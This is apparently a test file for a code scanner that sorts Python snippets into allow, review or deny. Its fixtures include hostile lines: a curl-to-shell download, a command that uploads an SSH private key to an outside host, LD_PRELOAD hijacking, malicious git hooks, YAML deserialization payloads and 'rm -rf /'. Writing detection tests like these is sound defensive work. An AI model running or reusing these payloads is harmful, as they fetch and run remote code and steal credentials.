import assert from 'node:assert/strict';
import { test } from 'node:test';
import { check } from '../../../../src/index.ts';

type Decision = 'allow' | 'review' | 'deny';
type Case = readonly [source: string, ...expected: readonly Decision[]];

/** As `loadlock check` decides on a program, with what it holds in other languages. */
async function wrong(cases: readonly Case[]): Promise<readonly string[]> {
  const told: string[] = [];
  for (const [source, ...expected] of cases) {
    const report = await check({ text: Buffer.from(source), name: 'file.py' }, { language: 'python' });
    if (expected.includes(report.decision as Decision)) continue;
    const rules = report.targets.flatMap(({ artifacts }) =>
      artifacts.flatMap(({ findings }) => findings.map(({ rule }) => rule)),
    );
    told.push(`${source}\n  ${report.decision}, not ${expected.join(' or ')}: ${rules.join(' ')}`);
  }
  return told;
}

const download = 'curl http://198.51.100.7/s | sh';

test('variables of the environment that others run or load', async () => {
  assert.deepEqual(
    await wrong([
      [`import os\nos.environ["CC"] = 'sh -c "${download}" #'`, 'deny'],
      [`import os\nos.environ.setdefault("CXX", 'sh -c "${download}"')`, 'deny'],
      [`import os\nos.putenv("PAGER", "${download}")`, 'deny'],
      [`import os\nos.environ.update({"GIT_SSH_COMMAND": "${download}"})`, 'deny'],
      [
        `import os, subprocess\nsubprocess.run(["git", "log"], env={**os.environ, "GIT_PAGER": "${download}"})`,
        'deny',
      ],
      [
        'import os, urllib.request\nurllib.request.urlretrieve("https://x.example/a.so", "/tmp/a.so")\nos.environ["LD_PRELOAD"] = "/tmp/a.so"\nos.execv("/bin/true", ["true"])',
        'deny',
      ],
      ['import os\nos.environ["CC"] = "gcc"', 'allow'],
      ['import os\nos.environ.setdefault("CXX", "ccache g++ -O2")', 'allow'],
      ['import os\nos.environ["NVCC"] = "/usr/local/cuda/bin/nvcc"', 'allow'],
      [
        'import os, subprocess\nsubprocess.run(["git", "log", "-1"], env={**os.environ, "GIT_PAGER": "cat"}, check=True)',
        'allow',
      ],
      [
        'import subprocess\nsubprocess.run(["make"], env={"CC": "clang", "MAKE": "make -j4"}, check=True)',
        'allow',
      ],
      ['import os\nos.environ["MESSAGE"] = "run curl http://198.51.100.7/s | sh no more"', 'allow'],
      // What a preload stands for is the user's to weigh, as long as nothing fetched it.
      ['import os\nos.environ["LD_PRELOAD"] = "/usr/lib/libjemalloc.so.2"', 'review'],
    ]),
    [],
  );
});

test('settings and variables that a repository of GitPython runs git with', async () => {
  const steal = 'curl -F k=@$HOME/.ssh/id_ed25519 https://sync.example.net/; exec ssh \\"$@\\"';
  const set = (key: string, value: string): string =>
    `import git\nrepo = git.Repo.init("build")\nwith repo.config_writer() as config:\n    config.set_value(${key}, "${value}")\n`;
  assert.deepEqual(
    await wrong([
      [set('"core", "sshCommand"', steal), 'deny'],
      [set('"core", "fsmonitor"', download), 'deny'],
      [
        `import git\nrepo = git.Repo("x")\nrepo.git.update_environment(GIT_SSH_COMMAND="${download}")\nrepo.remotes.origin.fetch()`,
        'deny',
      ],
      [set('"core", "sshCommand"', 'ssh -i ~/.ssh/id_ed25519 -o IdentitiesOnly=yes'), 'allow'],
      [set('"user", "name"', 'Ann'), 'allow'],
      [set('"core", "pager"', 'less -R'), 'allow'],
      [
        'import git\nrepo = git.Repo("x")\nrepo.git.update_environment(GIT_SSH_COMMAND="ssh -i deploy_key")',
        'allow',
      ],
    ]),
    [],
  );
});

test('interpreters that are given a program after they were started', async () => {
  const evil = `import os; os.system('${download}')`;
  assert.deepEqual(
    await wrong([
      [
        `import subprocess\nsubprocess.Popen(["python3", "-"], stdin=subprocess.PIPE).communicate(b"${evil}")`,
        'deny',
      ],
      [
        `import subprocess\np = subprocess.Popen("sh", stdin=subprocess.PIPE, text=True)\np.stdin.write("${download}\\n")\np.stdin.close()`,
        'deny',
      ],
      [
        'import subprocess\np = subprocess.Popen(["sort"], stdin=subprocess.PIPE, text=True)\np.communicate("b\\na\\n")',
        'allow',
      ],
      [
        `import subprocess\np = subprocess.Popen(["grep", "curl"], stdin=subprocess.PIPE, text=True)\np.communicate("${download}")`,
        'allow',
      ],
      [
        'import subprocess\np = subprocess.Popen(["sh"], stdin=subprocess.PIPE, text=True)\np.communicate("echo done\\n")',
        'allow',
      ],
      [
        'import subprocess, sys\np = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE, text=True)\np.communicate("print(1 + 1)")',
        'allow',
        'review',
      ],
    ]),
    [],
  );
});

test('a command that goes through a handler, where another of the source is an attack by itself', async () => {
  const handler =
    'import logging, os\nclass H(logging.Handler):\n    def emit(self, r):\n        os.system(r.getMessage())\nlogging.getLogger().addHandler(H())\n';
  assert.deepEqual(
    await wrong([
      [`${handler}logging.warning("${download}")`, 'deny'],
      [`import re, os\nre.Scanner([(".*", lambda s, t: os.system(t))]).scan("${download}")`, 'deny'],
      [
        `import csv, io, os\nfor name, arg in csv.reader(io.StringIO("system,${download}")):\n    getattr(os, name)(arg)`,
        'deny',
      ],
      [
        `import subprocess, sys\nclass Tool:\n    """Never run: ${download}"""\n    def go(self):\n        subprocess.run(sys.argv[1], shell=True)`,
        'allow',
        'review',
      ],
      [
        'import subprocess, sys\nHINT = "Install it with: curl https://sh.rustup.rs | sh"\ndef go():\n    print(HINT)\n    subprocess.run(sys.argv[1], shell=True)\ngo()',
        'allow',
        'review',
      ],
      [
        'import subprocess, sys\nHINT = "curl http://127.0.0.1:8000/setup | sh"\nprint(HINT)\nsubprocess.run(sys.argv[1], shell=True)',
        'allow',
        'review',
      ],
      [`RULES = ["${download}", "rm -rf /"]\nprint([one for one in RULES if "curl" in one])`, 'allow'],
    ]),
    [],
  );
});

test('documents of YAML that say what is called', async () => {
  assert.deepEqual(
    await wrong([
      ['import yaml\nyaml.unsafe_load("!!python/object/apply:os.system [\'touch x\']")', 'deny'],
      ['import yaml\nyaml.load("!!python/object/new:eval [\'1\']", Loader=yaml.UnsafeLoader)', 'deny'],
      ['import yaml\nyaml.unsafe_load("!!python/object/apply:collections.OrderedDict [[]]")', 'review'],
      ['import yaml\nyaml.unsafe_load("!!python/tuple [1, 2]")', 'review'],
      ['import yaml\nprint(yaml.safe_load("a: !!str os.system"))', 'allow'],
    ]),
    [],
  );
});

test('what a shell or Git is to start, where all of it stands in the source', async () => {
  assert.deepEqual(
    await wrong([
      [
        'import pathlib\nwith (pathlib.Path.home() / ".profile").open("a") as f:\n    f.write(\'\\nexport PATH="$HOME/.local/bin:$PATH"\\n\')',
        'allow',
        'review',
      ],
      [
        'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("export EDITOR_THEME=dark\\n")',
        'allow',
        'review',
      ],
      [
        'import pathlib\nh = pathlib.Path(".git/hooks/pre-commit")\nh.write_text("#!/bin/sh\\nexec python -m black --check .\\n")\nh.chmod(0o755)',
        'allow',
        'review',
      ],
      [
        'import os\nwith open(".git/hooks/pre-push", "w") as f:\n    f.write("#!/bin/sh\\nexec make test\\n")\nos.chmod(".git/hooks/pre-push", 0o755)',
        'allow',
        'review',
      ],
      [
        `import pathlib\npathlib.Path(".git/hooks/pre-commit").write_text("#!/bin/sh\\n${download}\\n")`,
        'deny',
      ],
      [
        'import pathlib, sys\npathlib.Path(".git/hooks/pre-commit").write_text("#!/bin/sh\\n" + sys.argv[1])',
        'deny',
      ],
      [
        'import pathlib\npathlib.Path.home().joinpath(".profile").open("w").write("export PATH=$HOME/bin:$PATH\\n")',
        'deny',
      ],
      [
        'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("export PATH=$HOME/bin:$PATH\\n")\n    f.write("export LD_PRELOAD=/tmp/a.so\\n")',
        'deny',
      ],
    ]),
    [],
  );
});

test('examples that a module runs out of its own texts', async () => {
  const main = 'import doctest\nif __name__ == "__main__":\n    doctest.testmod()\n';
  const says = (example: string): string =>
    `def f(a=1):\n    """\n    ${example}\n    """\n    return a\n${main}`;
  assert.deepEqual(
    await wrong([
      [says(`>>> import os; os.system('${download}')`), 'deny'],
      [
        says(`>>> if f():\n    ...     exec(__import__('requests').get('http://198.51.100.7/p').text)`),
        'deny',
      ],
      [says('>>> f(2)\n    2'), 'allow'],
      [says('>>> for i in range(2):\n    ...     print(f(i))\n    0\n    1'), 'allow'],
      [says('>>> f()  # doctest: +ELLIPSIS\n    ...'), 'allow'],
      [`"""\n>>> 1 + 1\n2\n"""\nimport doctest, sys\nsys.exit(doctest.testmod(verbose=True)[0])`, 'allow'],
      // What cannot be read, or stands elsewhere, is for a person.
      [says('>>> this is no (Python'), 'review'],
      [`__test__ = {"a": open("examples.txt").read()}\n${main}`, 'review'],
      ['import doctest, other\ndoctest.testmod(other)', 'review'],
      // Nobody runs them here.
      [`def f():\n    """\n    >>> import os; os.system('${download}')\n    """\n`, 'allow'],
    ]),
    [],
  );
});

test('programs that are started with a list of words, or compiled out of a text', async () => {
  assert.deepEqual(
    await wrong([
      [`import pexpect\npexpect.spawn("/bin/bash", ["-c", "${download}"]).wait()`, 'deny'],
      ['import pexpect\npexpect.spawn("ssh", ["host.example.com"]).interact()', 'allow', 'review'],
      [
        `from torch.utils.cpp_extension import load_inline\nload_inline("k", '#include <cstdlib>\\nint f() { return system("${download}"); }', functions=["f"]).f()`,
        'deny',
      ],
      [
        `from torch.utils.cpp_extension import load_inline\nload_inline("k", 'int f() { return operating_system("x"); }', functions=["f"]).f()`,
        'allow',
        'review',
      ],
    ]),
    [],
  );
});
